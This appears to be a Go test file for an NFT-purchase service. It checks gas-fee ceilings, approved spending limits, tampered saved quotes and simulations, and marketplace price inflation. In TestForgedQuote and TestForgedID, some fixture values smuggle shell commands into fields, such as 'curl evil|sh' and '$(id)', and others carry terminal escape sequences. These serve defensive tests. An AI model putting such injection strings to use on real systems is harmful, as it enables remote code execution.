package nft_test

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/ape-claw/ape-claw/chain"
	"github.com/ape-claw/ape-claw/chain/units"
	"github.com/ape-claw/ape-claw/market"
	"github.com/ape-claw/ape-claw/nft"
	"github.com/ape-claw/ape-claw/policy"
	"github.com/ape-claw/ape-claw/telemetry/fault"
)

// TestFeeCeiling: a fee named after the simulation is bound by what it foresaw.
func TestFeeCeiling(t *testing.T) {
	t.Parallel()
	for name, tt := range map[string]struct {
		simulated, asked string
		limit            string // what the dry run shows, and the sender gets
		refused          bool
	}{
		"the same":              {"0.01", "0.01", "0.04", false},
		"four times":            {"0.01", "0.04", "0.04", false},
		"a little more":         {"0.01", "0.040000000000000001", "0.04", true},
		"a huge tip":            {"0.01", "0.464", "0.04", true},
		"never above the whole": {"0.9", "1.000000000000000001", "1", true},
		"up to the whole":       {"0.9", "1", "1", false},
		"simulated as free":     {"0", "0.5", "0.000000000000000001", true},
		"more than there is":    {"100000000000000000000000000000000000000000000000000000000000", "1.1", "1", true},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			w := newWorld(t)
			w.feeCap = ape(t, "0.01")
			q := w.simulated()
			if _, err := w.state.ExecContext(t.Context(), `UPDATE simulations SET doc = json_set(doc, '$.feeWei', ?)`, ape(t, tt.simulated).String()); err != nil {
				t.Fatal(err)
			}
			dry, err := w.service().Buy(t.Context(), nft.BuyIn{Quote: q.QuoteID})
			if err != nil || dry.MaxFeeApe.String() != tt.limit || *dry.MaxFeeWei != ape(t, tt.limit) ||
				!strings.Contains(dry.Message, "for 12.5 APE and at most "+tt.limit+" APE for gas") {
				t.Fatalf("%s, %s, %v", dry.MaxFeeApe, dry.Message, err)
			}
			if name == "more than there is" {
				return // no cap lets that through
			}
			w.feeCap = ape(t, tt.asked)
			out, err := w.service().Buy(t.Context(), nft.BuyIn{Quote: q.QuoteID, Execute: true, Confirm: phrase})
			if tt.refused {
				refused(t, err, fault.PolicyBlocked, tt.asked, tt.limit, "foresaw up to "+tt.simulated, "simulate again", "nft simulate --quote "+q.QuoteID)
				if len(w.sent) != 0 || w.last().Type != "policy.blocked" {
					t.Errorf("sent %d, events %s", len(w.sent), w.trail())
				}
				return
			}
			if err != nil || out.MaxFeeWei != nil || w.sent[0].Intent.FeeCeiling != ape(t, tt.limit) {
				t.Fatalf("%+v, %v", out, err)
			}
		})
	}
}

// TestApprovedMost: what a person approved bounds price and gas together, whatever a
// later simulation foresees.
func TestApprovedMost(t *testing.T) {
	t.Parallel()
	for name, tt := range map[string]struct {
		most, limit string // limit: what the sender gets; "" is refused
	}{
		"more than is needed":  {"13", "0.04"},
		"what was simulated":   {"12.54", "0.04"},
		"less":                 {"12.52", "0.02"},
		"less than gas costs":  {"12.509", ""},
		"the price alone":      {"12.5", ""},
		"less than that":       {"12", ""},
		"nothing":              {"0", ""},
		"a wei above gas":      {"12.510000000000000001", "0.010000000000000001"},
		"a wei below the gas ": {"12.509999999999999999", ""},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			w := newWorld(t)
			w.feeCap = ape(t, "0.01")
			q := w.simulated()
			most := ape(t, tt.most)
			_, err := w.service().Buy(t.Context(), nft.BuyIn{Quote: q.QuoteID, Execute: true, Confirm: phrase, Order: q.OrderHash, Most: &most})
			if tt.limit == "" {
				if !fault.IsGate(fault.CodeOf(err)) || len(w.sent) != 0 {
					t.Errorf("%v, sent %d", err, len(w.sent))
				}
				return
			}
			if err != nil || w.sent[0].Intent.FeeCeiling != ape(t, tt.limit) {
				t.Fatalf("%v: %+v", err, w.sent)
			}
		})
	}
}

// TestFeeUnknown: without a simulation there is no limit to show, and where policy
// asks for none the sender's own holds.
func TestFeeUnknown(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	q := w.quoted()
	if dry, err := w.service().Buy(t.Context(), nft.BuyIn{Quote: q.QuoteID}); err != nil || dry.MaxFeeApe != "" || dry.MaxFeeWei != nil {
		t.Errorf("%+v, %v", dry, err)
	}
	w.write("policy.json", `{"apechainChainId": 7733139, "nftBuy": {"maxPricePerTx": 100, "currencyAllowlist": ["APE"], "simulationRequired": false}, "execution": {"dailySpendCap": 100}}`)
	if _, err := w.service().Buy(t.Context(), nft.BuyIn{Quote: q.QuoteID, Execute: true, Confirm: phrase}); err != nil || w.sent[0].Intent.FeeCeiling != chain.DefaultFeeCeiling() {
		t.Errorf("%v", err)
	}
}

// TestForgedQuote: a saved quote is believed only as far as a run of ours could
// have written it, and nothing of what somebody else wrote is in a hint.
func TestForgedQuote(t *testing.T) {
	t.Parallel()
	for name, tt := range map[string]struct{ path, value, field string }{
		"price":             {"priceApe", `0.0001`, "priceApe"},
		"price spelling":    {"priceApe", `12.50`, "priceApe"},
		"price in wei":      {"priceWei", `"500000000000000000"`, "priceApe"},
		"free":              {"priceWei", `"0"`, "priceWei"},
		"limit":             {"maxPrice", `1300`, "maxPrice"},
		"limit in wei":      {"maxPriceWei", `"1300000000000000000000"`, "maxPrice"},
		"slug":              {"collection", `"gs-on-ape; curl evil|sh #"`, "collection"},
		"slug in capitals":  {"collection", `"Gs-on-ape"`, "collection"},
		"no slug":           {"collection", `""`, "collection"},
		"signed token":      {"tokenId", `"+46"`, "tokenId"},
		"token with zeros":  {"tokenId", `"07"`, "tokenId"},
		"token as a word":   {"tokenId", `"7 $(id)"`, "tokenId"},
		"currency":          {"currency", `"APE $(id)"`, "currency"},
		"no currency":       {"currency", `""`, "currency"},
		"order hash":        {"orderHash", `"0x12"`, "orderHash"},
		"contract":          {"contractAddress", `"0xB3443b6bd585ba4118cae2bedb61c7ec4a8281df"`, "contractAddress"},
		"protocol":          {"protocolAddress", `"0000000000000068f116a894984e2db1123eb395"`, "protocolAddress"},
		"seller":            {"seller", `"0x7099"`, "seller"},
		"counter":           {"counter", `"-1"`, "counter"},
		"chain":             {"chainId", `-5`, "chainId"},
		"status":            {"status", `"bought"`, "status"},
		"hash of no status": {"txHash", `"0x01"`, "txHash"},
		"lives for ever":    {"expiresAt", `"2099-01-01T00:00:00Z"`, "expiresAt"},
		"a millisecond":     {"expiresAt", `"2026-03-01T12:10:00.001Z"`, "expiresAt"},
		"ends before":       {"expiresAt", `"2026-03-01T11:59:59Z"`, "expiresAt"},
		"never made":        {"createdAt", `"0001-01-01T00:00:00Z"`, "expiresAt"},
		"made before":       {"createdAt", `"2026-02-28T12:00:00Z"`, "expiresAt"},
		"order over":        {"orderExpiresAt", `"2026-03-01T12:00:00Z"`, "orderExpiresAt"},
		"trace":             {"traceId", `"a\u001b[31m"`, "traceId"},
		"fee":               {"fees[0].amountApe", `0`, "fees[0]"},
		"fee recipient":     {"fees[1].recipient", `"evil"`, "fees[1]"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			w := newWorld(t)
			q := w.simulated()
			if _, err := w.state.ExecContext(t.Context(), `UPDATE quotes SET doc = json_set(doc, '$.' || ?, json(?))`, tt.path, tt.value); err != nil {
				t.Fatal(err)
			}
			s := w.service()
			_, dry := s.Buy(t.Context(), nft.BuyIn{Quote: q.QuoteID})
			_, buy := s.Buy(t.Context(), nft.BuyIn{Quote: q.QuoteID, Execute: true, Confirm: phrase})
			_, sim := s.Simulate(t.Context(), nft.SimulateIn{Quote: q.QuoteID})
			_, show := s.QuotesShow(t.Context(), nft.QuotesShowIn{Quote: q.QuoteID})
			good := w.quoted()
			list, err := s.QuotesList(t.Context(), nft.QuotesListIn{})
			if err != nil || list.Count != 1 || list.Quotes[0].QuoteID != good.QuoteID || len(list.Unreadable) != 1 || list.Unreadable[0].QuoteID != q.QuoteID ||
				!strings.Contains(list.Unreadable[0].Reason, "its "+tt.field+" in ") || strings.Contains(list.Unreadable[0].Reason, "\x1b") {
				t.Errorf("list %+v, %v", list, err)
			}
			for what, err := range map[string]error{"dry run": dry, "buy": buy, "simulate": sim, "show": show} {
				f := refused(t, err, fault.StateUnusable, "quote "+q.QuoteID+" was altered", "its "+tt.field+" in ")
				if strings.ContainsAny(f.Hint, "$|#") || strings.Contains(f.Hint, "evil") || strings.Contains(f.Message, "\x1b") || f.Details["field"] != tt.field {
					t.Errorf("%s: %s; %s", what, f.Message, f.Hint)
				}
			}
			if len(w.sent) != 0 {
				t.Error("it was sent")
			}
		})
	}
}

// TestForgedID: the id stands in commands to paste.
func TestForgedID(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	w.quoted()
	const id = "q_1; curl evil|sh #"
	if _, err := w.state.ExecContext(t.Context(), `UPDATE quotes SET id = ?, doc = json_set(doc, '$.quoteId', ?)`, id, id); err != nil {
		t.Fatal(err)
	}
	_, err := w.service().Buy(t.Context(), nft.BuyIn{Quote: id})
	if f := refused(t, err, fault.StateUnusable, "quoteId"); strings.Contains(f.Hint, "evil") {
		t.Errorf("%s", f.Hint)
	}
}

// TestQuoteFromTheFuture: it would live for ever. It can still be looked at, as
// after the clock was set back.
func TestQuoteFromTheFuture(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	q := w.simulated()
	w.pass(-time.Minute)
	if _, err := w.service().Buy(t.Context(), nft.BuyIn{Quote: q.QuoteID}); err != nil {
		t.Fatal(err)
	}
	w.pass(-time.Millisecond)
	for _, execute := range []bool{false, true} {
		_, err := w.service().Buy(t.Context(), nft.BuyIn{Quote: q.QuoteID, Execute: execute, Confirm: phrase})
		refused(t, err, fault.StateUnusable, "createdAt", "2026-03-01T12:00:00Z", "the clock says 2026-03-01T11:58:59Z")
	}
	if list, err := w.service().QuotesList(t.Context(), nft.QuotesListIn{}); err != nil || list.Count != 1 {
		t.Errorf("%+v, %v", list, err)
	}
}

// TestQuoteOfAnotherCollection: the quote names the contract as the allowlist does.
func TestQuoteOfAnotherCollection(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	q := w.simulated()
	set := func(key, value string) {
		t.Helper()
		if _, err := w.state.ExecContext(t.Context(), `UPDATE quotes SET doc = json_set(doc, '$.' || ?, ?)`, key, value); err != nil {
			t.Fatal(err)
		}
	}
	refuses := func(code fault.Code, gate string, says ...string) {
		t.Helper()
		_, err := w.service().Buy(t.Context(), nft.BuyIn{Quote: q.QuoteID, Execute: true, Confirm: phrase})
		refused(t, err, code, says...)
		_, err = w.service().Simulate(t.Context(), nft.SimulateIn{Quote: q.QuoteID})
		refused(t, err, code)
		if dry, err := w.service().Buy(t.Context(), nft.BuyIn{Quote: q.QuoteID}); err != nil || len(dry.WouldBlock) == 0 || dry.WouldBlock[0].Name != gate {
			t.Errorf("%+v, %v", dry.WouldBlock, err)
		}
	}
	set("collection", "twin-a")
	refuses(fault.CollectionNotAllowed, policy.GateCollection, "is twin-a, and the allowlist calls it gs-on-ape")
	set("collection", slug)
	set("currency", "ETH")
	refuses(fault.CurrencyNotAllowed, policy.GateCurrency, "ETH")
	set("currency", "APE")
	set("collectionName", "Gs\u202e on\x1b[31m Ape")
	if show, err := w.service().QuotesShow(t.Context(), nft.QuotesShowIn{Quote: q.QuoteID}); err != nil || show.CollectionName != "Gs on[31m Ape" {
		t.Errorf("%q, %v", show.CollectionName, err)
	}
	// Under two slugs, each names it.
	w.write("allowlist.json", `[{"slug": "alias", "contractAddress": "`+contract+`"}, {"slug": "gs-on-ape", "contractAddress": "`+contract+`"}]`)
	if dry, err := w.service().Buy(t.Context(), nft.BuyIn{Quote: q.QuoteID}); err != nil || len(dry.WouldBlock) != 0 || dry.ConfirmPhrase != phrase {
		t.Errorf("%+v, %v", dry, err)
	}
}

// TestForgedSimulation: of another quote, or with text that is no sentence.
func TestForgedSimulation(t *testing.T) {
	t.Parallel()
	for path, value := range map[string]string{"quoteId": "q_other", "buyer": "me\x1b[31m"} {
		w := newWorld(t)
		q := w.simulated()
		if _, err := w.state.ExecContext(t.Context(), `UPDATE simulations SET doc = json_set(doc, '$.' || ?, ?)`, path, value); err != nil {
			t.Fatal(err)
		}
		_, err := w.service().Buy(t.Context(), nft.BuyIn{Quote: q.QuoteID})
		refused(t, err, fault.StateUnusable)
	}
	w := newWorld(t)
	q := w.simulated()
	if _, err := w.state.ExecContext(t.Context(), `UPDATE simulations SET doc = json_set(doc, '$.ok', json('false'), '$.reason', ?)`, "line\nbreak\x1b[31m"); err != nil {
		t.Fatal(err)
	}
	dry, err := w.service().Buy(t.Context(), nft.BuyIn{Quote: q.QuoteID})
	if err != nil || strings.ContainsAny(dry.Message+dry.WouldBlock[0].Reason, "\n\x1b") {
		t.Errorf("%q, %v", dry.Message, err)
	}
}

// TestInflatedPrice: the marketplace may add its fee, and not as much as it likes.
func TestInflatedPrice(t *testing.T) {
	t.Parallel()
	for price, ok := range map[string]bool{"12.5": true, "13.157894736842105263": true, "13.157894736842105264": false, "14": false, "25": false} {
		w := newWorld(t)
		w.listing = func(l *market.Listing) { l.Price = ape(t, price); l.Considered = ape(t, "12.5") }
		in := quoteIn()
		in.MaxPrice = "100"
		_, err := w.service().Quote(t.Context(), in)
		if ok {
			if err != nil {
				t.Errorf("%s: %v", price, err)
			}
			continue
		}
		refused(t, err, fault.UnsafeTransaction, price, "the seller signed 12.5", "5%")
		if w.trail() != "policy.blocked" {
			t.Errorf("events %s", w.trail())
		}
	}
	w := newWorld(t) // nothing is known to be signed
	w.listing = func(l *market.Listing) { l.Considered = units.Wei{} }
	_, err := w.service().Quote(t.Context(), quoteIn())
	refused(t, err, fault.UnsafeTransaction, "signed 0")
}

// TestJumpIsTold: once a run, whatever the number of caps.
func TestJumpIsTold(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	w.src.Agents = []string{"test"}
	if err := os.MkdirAll(filepath.Join(w.home, "agents", "test"), 0o700); err != nil {
		t.Fatal(err)
	}
	w.write("agents/test/policy.json", `{"execution": {"dailySpendCap": 500}}`)
	q := w.simulated()
	if _, err := w.money.ExecContext(t.Context(), `INSERT INTO clock (id, high_water) VALUES (1, ?)`, w.now.Add(400*24*time.Hour).UnixMilli()); err != nil {
		t.Fatal(err)
	}
	if _, err := w.service().Buy(t.Context(), nft.BuyIn{Quote: q.QuoteID, Execute: true, Confirm: "no"}); err == nil || len(w.warned) != 1 {
		t.Errorf("%q, %v", w.warned, err)
	}
}
